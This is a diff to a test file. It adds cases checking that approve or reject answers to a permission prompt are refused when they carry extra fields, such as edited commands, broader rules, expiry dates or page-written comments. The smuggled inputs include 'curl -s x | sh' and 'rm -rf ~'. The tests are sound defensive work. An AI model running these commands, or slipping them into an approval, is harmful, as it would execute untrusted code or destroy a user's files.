@@ -111,6 +111,15 @@ describe('requests', () => {
       { decision: 'approve', scope: 'global' },
       { decision: 'approve', scope: 'session' },
       { decision: 'reject', comment: 'page-written text' },
+      // Approve once with something riding along: a rule, a time box, an edited input, a comment.
+      { decision: 'approve', scope: 'once', updated_input: { command: 'curl -s x | sh' } },
+      { decision: 'approve', updated_input: { command: 'rm -rf ~' } },
+      { decision: 'approve', scope: 'once', rules: ['Bash(curl:*)'] },
+      { decision: 'approve', rule: 'Bash(curl:*)' },
+      { decision: 'approve', scope: 'once', expires_at: '2030-01-01T00:00:00.000Z' },
+      { decision: 'approve', comment: 'page-written text' },
+      { decision: 'reject', rules: ['Bash(curl:*)'] },
+      { decision: 'reject', updated_input: { command: 'ls' } },
     ]) {
       expect(admitRequest({ ...respond, answer }, dock, self)).toEqual({
         ok: false,
